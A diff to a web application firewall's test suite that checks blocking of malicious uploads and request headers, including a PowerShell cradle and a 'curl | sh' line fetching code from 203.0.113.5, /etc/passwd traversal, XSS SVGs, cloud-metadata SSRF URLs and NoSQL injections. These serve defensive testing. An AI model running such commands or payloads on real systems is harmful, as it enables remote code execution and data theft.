@@ -408,8 +408,8 @@ describe('waf API profile: headers, cookies, member names and query encodings (s
         { 'x-forwarded-for': '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x78))s), 1, 2)))' },
         'protocol-attack',
       ],
-      [{ 'x-forwarded-for': '|| powershell -nop -w hidden -enc SQBFAFgA' }, 'protocol-attack'],
-      [{ 'x-real-ip': '....//....//etc/passwd' }, 'protocol-attack'],
+      [{ 'x-forwarded-for': '|| powershell -nop -w hidden -enc SQBFAFgA' }, 'rce'],
+      [{ 'x-real-ip': '....//....//etc/passwd' }, 'lfi'],
       [{ 'x-forwarded-for': "'-alert(1)-'" }, 'protocol-attack'],
       [{ 'x-device-id': '$(sleep 5)' }, 'rce'],
       [{ 'x-api-version': 'http://169.254.169.254.nip.io/latest/meta-data/' }, 'ssrf'],
@@ -936,6 +936,108 @@ describe('waf API profile: help-desk, CI and i18n traffic of held-out 8 (session
     for (const q of ["2026-01-01'--", '2026-01-01-- or 1=1', "1' or 1=1--2026-03-31"]) {
       const path = `/embed/dashboards/a2t?p_date_range=${encodeURIComponent(q)}`;
       assert.equal((await run(api, get(path))).error?.status, 403, q);
+    }
+  });
+});
+
+describe('waf API profile: uploads, headers and cookies of held-out 8 (rules 90117–90121, session 7)', () => {
+  const boundary = '----gatehouse8';
+  const upload = (filename: string, type: string, content: string): Init => {
+    const body = Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${boundary}--\r\n`,
+      'utf8',
+    );
+    return {
+      method: 'POST',
+      path: '/api/v1/uploads',
+      headers: {
+        ...ua,
+        'content-type': `multipart/form-data; boundary=${boundary}`,
+        'content-length': String(body.length),
+      },
+      body,
+    };
+  };
+  const get = (headers: Record<string, string>): Init => ({
+    method: 'GET',
+    path: '/api/v2/tickets',
+    query: 'page=1',
+    headers: { ...ua, ...headers },
+  });
+
+  test('script or internal URLs in uploaded SVG/HTML, commands, OS files and query documents in headers: blocked', async () => {
+    const svg =
+      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=fetch(1)></div></foreignObject></svg>';
+    for (const [init, reason] of [
+      [upload('avatar.svg', 'image/svg+xml', svg), 'xss'],
+      [
+        upload(
+          'a.svg',
+          'image/svg+xml',
+          '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        ),
+        'xss',
+      ],
+      [
+        upload(
+          'report.html',
+          'text/html',
+          '<html><body><iframe src="http://metadata.google.internal/computeMetadata/v1/"></iframe></body></html>',
+        ),
+        'xss',
+      ],
+      [
+        upload(
+          'report.html',
+          'text/html',
+          '<html><body><img src="http://169.254.169.254/latest/meta-data/"></body></html>',
+        ),
+        'ssrf',
+      ],
+      [
+        get({
+          referer:
+            '& powershell -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')"',
+        }),
+        'rce',
+      ],
+      [get({ 'x-debug': 'curl -s http://203.0.113.5/x | sh' }), 'rce'],
+      [get({ cookie: 'sid=abc; branch=1%3Bc%5Cat%20/et%5Cc/pas%5Cswd' }), 'lfi'],
+      [get({ 'x-template': '/etc/passwd' }), 'lfi'],
+      [get({ 'x-query': '{"user_id":{"$in":["admin","root"]}}' }), 'nosql'],
+      [get({ cookie: 'sid=abc; user[$ne]=x' }), 'nosql'],
+    ] as [Init, string][]) {
+      assert.equal((await run(api, init)).error?.reason, `waf:${reason}`, JSON.stringify(init?.headers));
+    }
+    // A URL written with circled digits and ideographic full stops is the metadata address to a URL parser.
+    const idna = { endpoint: 'http://⑯⑨。②⑤④。⑯⑨。②⑤④/latest/meta-data/' };
+    assert.equal((await run(api, post(idna))).error?.reason, 'waf:ssrf');
+  });
+
+  test('ordinary uploads, logos, CSVs with markup-like text and everyday headers pass', async () => {
+    for (const init of [
+      upload(
+        'logo.svg',
+        'image/svg+xml',
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#7c3aed"/></svg>',
+      ),
+      upload(
+        'notes.html',
+        'text/html',
+        '<html><body><h1>Q1 report</h1><p>Revenue <strong>up 8%</strong>. See <a href="https://example.com/q1">details</a>.</p></body></html>',
+      ),
+      upload(
+        'export.csv',
+        'text/csv',
+        'id,comment\n1,"<script> tags are stripped, see http://localhost:8080"\n',
+      ),
+      get({
+        referer: 'https://support.example.com/admin/diagnostics?tab=dns',
+        cookie: 'sid=abc; theme=dark; filters=%7B%22status%22%3A%22open%22%7D',
+      }),
+      get({ 'x-request-id': '89188238-0c93-4887-8ba6-fdff50770ee5', 'x-forwarded-prefix': '/api' }),
+    ]) {
+      assert.equal((await run(api, init)).error, undefined, JSON.stringify(init?.headers));
     }
   });
 });
